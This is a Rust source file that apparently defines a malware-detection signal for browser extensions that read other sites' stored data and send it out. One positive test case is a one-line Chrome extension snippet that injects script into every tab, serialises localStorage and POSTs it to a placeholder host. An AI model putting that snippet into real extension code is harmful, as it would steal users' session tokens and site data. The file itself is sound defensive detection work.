//! `extension-page-storage-sent`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "extension-page-storage-sent",
    description: "The extension reads everything other sites store in the browser and sends it out.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[
        one(&[Atom::ExtensionApi]),
        one(&[Atom::AllStorage]),
        one(&[Atom::SentAbroad, Atom::PostMethod, Atom::Post, Atom::Beacon]),
    ],
    within: 250,
    only_if: Some(of_pages),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"chrome.tabs.onUpdated.addListener((id,i,t)=>{chrome.scripting.executeScript({target:{tabId:id},func:()=>JSON.stringify(localStorage)},r=>{fetch('https://s.example/t',{method:'POST',body:r[0].result})})})"#,
        ],
        without: &[
            r#"chrome.scripting.executeScript({target:{tabId:id},func:()=>JSON.stringify(localStorage)},r=>{show(r[0].result)})"#,
            r#"fetch('https://s.example/t',{method:'POST',body:JSON.stringify(localStorage)});chrome.storage.local.get('a')"#,
        ],
    },
};

fn of_pages(evidence: &Evidence<'_>, held: Held) -> bool {
    Near::new(evidence, held, 60).has_word(&["executeScript"])
}
